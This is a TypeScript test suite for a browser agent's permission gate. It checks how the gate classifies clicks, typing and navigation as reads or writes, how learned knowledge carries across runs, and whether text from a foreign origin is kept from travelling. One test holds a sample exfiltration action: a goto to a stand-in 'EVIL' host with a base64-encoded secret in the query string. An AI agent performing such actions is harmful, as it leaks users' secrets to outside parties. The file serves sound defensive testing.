/** What the gate has seen in this run and in earlier ones counts for the next action. */
import { describe, expect, it } from 'vitest';
import type { createGate } from '../../agent-core/policy/gate.ts';
import { createLearned } from '../../agent-core/policy/learned.ts';
import type { Action, Effect } from '../../agent-core/trajectory.ts';
import { at, guard, outcome, post, QUIET, world } from './guard.ts';
import { button, EVIL, field, link, SHOP, shop, type } from './make.ts';

describe('what was seen before', () => {
  const act = async (gate: ReturnType<typeof createGate>, action: Action) => {
    const answer = await gate.permit(action);
    if ('permitted' in answer) await gate.environment.perform(answer.permitted);
    return outcome(answer);
  };
  const effect = (requests: Effect['requests']): Effect => ({ ...QUIET, requests });
  it('a control that wrote is a write from then on, and its number does not matter', async () => {
    const w = world({ e1: button('Show 7'), e2: button('Show 8') }, { effects: [effect([post])] });
    const { gate } = guard(w, { mode: 'read' });
    expect([await act(gate, at('e1')), await act(gate, at('e2'))]).toEqual(['allow U', 'allow W']);
  });
  it('typing in a field that saved by itself is a write from then on', async () => {
    const w = world({ e1: field('Title') }, { effects: [effect([post])] });
    const { gate } = guard(w, { mode: 'read' });
    expect([await act(gate, type('a')), await act(gate, type('b'))]).toEqual(['allow U', 'allow W']);
  });
  it('three reads in sandbox lower what was only unknown, in later runs too; imported knowledge never lowers', async () => {
    const get = { ...post, method: 'GET', blocked: false };
    const learned = createLearned();
    const effects = [1, 2, 3].map(() => effect([get]));
    const w = world({ e1: button('Frobnicate') }, { effects });
    const { gate } = guard(w, { mode: 'sandbox', learned });
    for (let i = 0; i < 3; i += 1) expect(await act(gate, at('e1'))).toBe('allow W');
    expect(await act(gate, at('e1'))).toBe('allow U');
    const own = createLearned(learned.rows());
    const next = guard(w, { mode: 'assist', barrier: () => 'absent', learned: own });
    expect(outcome(await next.gate.permit(at('e1')))).toBe('allow U');
    const foreign = createLearned(learned.rows().map((row) => ({ ...row, from: 'imported' })));
    expect(outcome(await guard(w, { mode: 'assist', barrier: () => 'absent', learned: foreign }).gate.permit(at('e1')))).toBe(
      'ask write',
    );
  });
  it('reads in read mode teach nothing: there a write may have been stopped elsewhere', async () => {
    const learned = createLearned();
    const effects = [1, 2, 3, 4].map(() => effect([{ ...post, method: 'GET', blocked: false }]));
    const { gate } = guard(world({ e1: button('Frobnicate') }, { effects }), { mode: 'read', learned });
    for (let i = 0; i < 4; i += 1) expect(await act(gate, at('e1'))).toBe('allow W');
    expect(learned.rows()).toEqual([]);
  });
  it('a link to an address that was posted to is a write by GET, unless it is also a page', async () => {
    const effects = [
      effect([
        { ...post, path: '/turn' },
        { ...post, path: '/orders' },
      ]),
    ];
    const w = world({ e1: button('Show'), e2: link('/turn', 'Turn'), e3: link('/orders?x=1', 'Orders') }, { effects });
    const { gate } = guard(w, { mode: 'read' });
    expect(await act(gate, at('e2'))).toBe('allow N1');
    expect(await act(gate, at('e1'))).toBe('allow U');
    expect(await act(gate, at('e2'))).toBe('deny writes-by-get');
    expect(await act(gate, at('e3'))).toBe('allow N1');
  });
  it('text of another origin does not travel', async () => {
    const two = shop({ read: new Set([SHOP, EVIL]), write: new Set([SHOP]) });
    const w = world(
      { e1: field('Comment', { origin: EVIL, pageUrl: `${EVIL}/` }) },
      { text: 'The vault code is marmalade-8841-tangerine' },
    );
    const { gate } = guard(w, { mode: 'sandbox', origins: two, task: '' });
    await gate.environment.observe();
    expect(outcome(await gate.permit(type('marmalade 8841 tangerine')))).toBe('deny carries-text-of-another-origin');
    expect(outcome(await gate.permit({ kind: 'goto', url: `${EVIL}/?d=${btoa('marmalade-8841-tangerine')}` }))).toBe(
      'deny carries-text-of-another-origin',
    );
    expect(outcome(await gate.permit({ kind: 'goto', url: `${SHOP}/?d=marmalade-8841-tangerine` }))).toBe('allow N1');
    expect(outcome(await gate.permit(type('thanks')))).toBe('allow U');
  });
  it('going back is known to stay where all pages were of one origin; a tab has its own', async () => {
    const w = world({ e1: link('/a', 'A') });
    const { gate } = guard(w, { mode: 'assist', barrier: () => 'absent' });
    await gate.environment.observe();
    expect(await act(gate, { kind: 'go_back' })).toBe('allow N1');
    expect(await act(gate, { kind: 'tab_focus', index: 0 })).toBe('allow N1');
    expect(await act(gate, { kind: 'tab_focus', index: 1 })).toBe('ask foreign-origin');
    w.show({ url: `${EVIL}/`, text: '' });
    await gate.environment.observe();
    expect(await act(gate, { kind: 'go_back' })).toBe('ask unknown-destination');
    expect(await act(gate, { kind: 'scroll', direction: 'down' })).toBe('deny foreign-frame');
  });
  it('an action past the witness is not trusted to have stayed', async () => {
    const w = world({ e1: link('/a', 'A') });
    const { gate } = guard(w, { mode: 'assist', barrier: () => 'absent' });
    await gate.environment.observe();
    const answer = await gate.permit(at('e1'));
    if ('permitted' in answer) await w.environment.perform(answer.permitted);
    w.show({ url: `${EVIL}/`, text: '' });
    expect(outcome(await gate.permit({ kind: 'scroll', direction: 'down' }))).toBe('deny foreign-frame');
  });
});
